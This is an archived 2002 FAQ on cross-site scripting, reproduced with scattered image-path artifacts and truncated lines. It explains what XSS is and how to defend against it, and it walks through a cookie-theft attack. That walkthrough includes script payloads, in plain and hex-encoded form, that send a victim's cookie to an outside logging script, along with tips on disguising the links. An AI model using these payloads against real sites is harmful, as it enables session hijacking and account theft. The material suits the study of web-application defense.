TUCoPS :: General Information :: hack5355.htm

Cross Site Scripting white paper
22th May 2002 [SBWID-5355]

    Cross Site Scripting white paper


    Many if not all web services


    zeno of cgisecurity [zeno@cgisecurity.com] released the following  white
    paper, original location is :Editor\'s note : further reading and advance technique may be found at :






    \"The Cross Site Scripting FAQ\"


     What is Cross Site Scripting?

     What does XSS and CSS mean?

     What are the threats of Cross Site Scripting?

     What are some examples of cross site scripting attacks?

     Can you show me what cookie theft looks like?What can I do to protect myself as a vendor?

     What can I do to protect myself as a user?

     How common are CSS/XSS holes?

     Does encryption protect me?

     Can CSS/XSS holes allow command execution?

     What if I don\'t feel like fixing a CSS/XSS Hole?

     What are some links I can visit to help me further understand XSS?






    Websites today are more complex than ever, containing a lot  of  dynamic
    content making the experience  for  the  user  more  enjoyable.  Dynamic
    content is achieved through  the  use  of  web  applications  which  can
    deliver different output to a  user  depending  on  their  settings  and
    needs. Dynamic websites have  a  threat  that  static  websites  don\'t,
    called \"Cross  Site  Scripting\"  (or  XSS  dubbed  by  other  security
    professionals). Currently small informational tidbits about  Cross  Site
    Scripting holes exist but none really explain them to an average  person
    or  administrator.  This  FAQ  was   written   to   provide   a   better
    understanding  of  this  emerging  threat,  and  to  give  guidance   on
    detection and prevention.


     \"What is Cross Site Scripting?\"


    Cross site scripting (also known as XSS) occurs when a  web  application
    gathers malicious data from a user. The data is usually gathered in  the
    form of a hyperlink which contains  malicious  content  within  it.  The
    user will most likely click on  this  link  from  another  website,  web
    board, email, or from an instant  message.  Usually  the  attacker  will
    encode the malicious portion of the link to the site in  HEX  (or  other
    encoding methods) so the request is less suspicious looking to the  userwhen clicked on. After the data is collected by the web application,  it
    creates an output page for the user containing the malicious  data  that
    was originally sent to it, but in a manner to make it  appear  as  valid
    content from the website.


     \"What does XSS and CSS mean?\"


    Often people refer to Cross Site Scripting as CSS. There has been a  lot
    of  confusion  with  Cascading  Style  Sheets  (CSS)  and   cross   site
    scripting. Some security people refer to Cross Site  Scripting  as  XSS.
    If you hear someone say \"I found a XSS hole\", they are  talking  about
    Cross Site Scripting for certain.


     \"What are the threats of Cross Site Scripting?\"


    Often attackers will inject  JavaScript,  VBScript,  ActiveX,  HTML,  or
    Flash to fool a user (Read below for further details),  or  gather  data
    from  them.  Everything  from  account  hijacking,  changing   of   user
    settings, cookie theft/poisoning, or false advertising is possible.  New
    malicious uses are being found every  day  for  XSS  attacks.  The  post
    below by Brett Moore brings up a good point with regard to  \"Denial  Of
    Service\", and potential \"auto-attacking\" of hosts if  a  user  simply
    reads a post on a message board.




     \"What are some examples of cross site scripting attacks?\"


    One product with many XSS holes is  thepopular  PHP  program  PHPnuke.
    This product is often targeted by  attackers  to  probe  for  XSS  holes
    because  of  its  popularity.  I  have   included   a   few   links   of
    advisories/reports that have been discovered  and  disclosed  just  from
    this product alone. The following collection should  provide  plenty  of






     \"Can you show me what XSS cookie theft looks like?\"


    Depending on the particular web application some of  the  variables  and
    positioning of the injections may need to be adjusted. Keep in mind  the
    following is a simple example of an attacker\'s methodology.

     Step 1: Targeting


    After you have found an XSS hole in a  web  application  on  a  website,
    check to see if it issues cookies. If  any  part  of  the  website  uses
    cookies, then it is possible to steal them from its users.

     Step 2: Testing


    Since XSS holes are different in how they are  exploited,  some  testing
    will need to be  done  in  order  to  make  the  output  believable.  By
    inserting code into the script, its output will be changed and the  page
    may appear broken. (The end result is  crucial  and  the  attacker  will
    have to do some touching  up  in  the  code  to  make  the  page  appear
    normal.) Next you will need to insert some Javascript (or  other  client
    side scripting language) into the URL pointing to the part of  the  site
    which is vulnerable. Below I have provided a  few  links  that  are  for
    public use when testing for XSS holes. These links below,  when  clicked
    on will send the users cookie to  www.cgisecurity.com/cgi-bin/cookie.cgi
    and will display it. If you see a page displaying a cookie then  session
    hijacking of theuser\'s account may be possible.


     Cookie theft Javascript Examples.

     A example of usage is below.


    ASCII Usage:




    Hex Usage:







     NOTE: The request is first shown in ASCII, then in Hex for copy and paste purposes.


     1. \"><script>document.location=\'http://www.cgisecurity.com/cgi-bin/cookie.cgi?\'



     HEX %22%3e%3c%73%63%72%69%70%74%3e%64%6f%63%75%6d%65%6e%74%2e%6c%6f%63%61%74%69%6f%6e%3d%272. <script>document.location=\'http://www.cgisecurity.com/cgi-bin/cookie.cgi?\'



     HEX %3c%73%63%72%69%70%74%3e%64%6f%63%75%6d%65%6e%74%2e%6c%6f%63%61%74%69%6f%6e%3d%27%68%74%74





     3. ><script>document.location=\'http://www.cgisecurity.com/cgi-bin/cookie.cgi?\'



     HEX %3e%3c%73%63%72%69%70%74%3e%64%6f%63%75%6d%65%6e%74%2e%6c%6f%63%61%74%69%6f%6e%3d%27%68%74






    These are the examples of \"evil\" Javascript we will  be  using.  These
    Javascript examples gather the users cookie and then send a  request  to
    the cgisecurity.com website with the cookie in the query. My  script  on
    cgisecurity.com logs each request and each cookie. In  simple  terms  it
    is doing the following:My cookie = user=zeno; id=021

     My script = www.cgisecurity.com/cgi-bin/cookie.cgi


    It sends a request to my site that looks like this.

     GET /cgi-bin/cookie.cgi?user=zeno;%20id=021 (Note: %20 is a hex encoding for a space)


    This is a primitive buteffective way  of  grabbing  a  user\'s  cookie.
    Logs  of  the  use   of   this   public   script   can   be   found   at

     Step 3: XSS Execution


    Hand out your crafted url or use email  or  other  related  software  to
    help  launch  it.  Make  sure  that  ifyou  provide  the  URL  to  the
    user(through email, aim, or other means) that you at  least  HEX  encode
    it. The code  is  obviously  suspicious  looking  but  a  bunch  of  hex
    characters may fool a few people.

    In my example I only forward the user to  cookie.cgi.  A  attacker  with
    more time could do a  few  redirects  and  XSS  combo\'s  to  steal  the
    user\'s cookie, and return them to  the  website  without  noticing  the
    cookie theft.

    Some email programs may execute the Javascript upon  the  opening  of  a
    message or if the Javascript  is  contained  in  a  message  attachment.
    Larger sites like Hotmail do allow  Javascript  inside  attachments  but
    they do special filtering to prevent cookie theft.

     Step 4: What to do with this data


    Once you have gotten the user to execute  the  XSS  hole,  the  data  is
    collected and sent to your CGI script. Now that you have the cookie  you
    can use a tool like Websleuth to see if account hijacking is possible.

    This  is  only  a  FAQ,  not  a  detailed  paper  on  cookie  theft  and
    modification. A new paper released by  David  Endler  of  iDefense  goes
    into more detail on some of the ways to automatically launch XSS  holes.
    This paper can be found at http://www.idefense.com/idpapers/XSS.pdf.


     \"What can Ido to protect myself as a vendor?\"


    This is a simple answer.  Never  trust  user  input  and  always  filter
    metacharacters.  This  will  eliminate  the  majority  of  XSS  attacks.
    Converting < and > to < and > is also suggested when it  comes  to
    script output. Remember XSS holes can be damaging  and  costly  to  your
    business if abused. Often attackers will disclose  these  holes  to  the
    public, which can erode customer and public confidence in  the  security
    and privacy of your organization\'s site. Filtering  <  and  >  alone
    will not solve all cross site scripting attacks and it is suggested  you
    also attempt to filter out ( and ) by translatingthem to ( and ).


     \"What can I do to protect myself as a user?\"


    The easiest way to protect yourself as a user is to  only  follow  links
    from the main website you wish to view. If you visit one website and  it
    links to CNN for example, instead of clicking on it  visit  CNN\'s  main
    site and use its search engine to find the content. This  will  probably
    eliminate ninety percent of the problem. Sometimes XSS can  be  executed
    automatically  when  you  open  an  email  or  attachment.  If  you  are
    receiving email from a person you don\'t know (or  don\'t  like)  don\'t
    trust anything it has to say. Another way  to  protect  yourself  is  to
    turn off Javascript in your browser settings. In IE turn  your  security
    settings to high. This can prevent cookie theft, and  in  general  is  a
    safer thing to do.


     \"How common are XSS holes?\"


    Cross site scripting holes are gaining popularity among hackers as  easyholes to  find  in  large  websites.  Websites  from  FBI.gov,  CNN.com,
    Time.com, Ebay, Yahoo, Apple  computer,  Microsoft,  Zdnet,  Wired,  and
    Newsbytes have all had one form or another of XSS bugs.

    Every month roughly 10-25 XSS holes are  found  in  commercial  products
    and advisories are published explaining the threat.


     \"Does encryption protect me?\"


    Websites that use  SSL  (https)  are  in  no  way  more  protected  than
    websites that are not encrypted. The web applications work the same  way
    as  before,  except  the  attack  is  taking  place  in   an   encrypted
    connection. People often think that because they see the lock  on  their
    browser it means everything is secure. This just isn\'t the case.


     \"Can XSS holes allow command execution?\"


    XSS holes can allow Javascript insertion, which may  allow  for  limited
    execution. If an attacker were to exploit a browser flaw (browser  hole)
    it could then be possible to execute commands on the client\'s side.  If
    command execution were possible it would only be possible on the  client
    side. In simple terms XSS holes can be used to help exploit other  holes
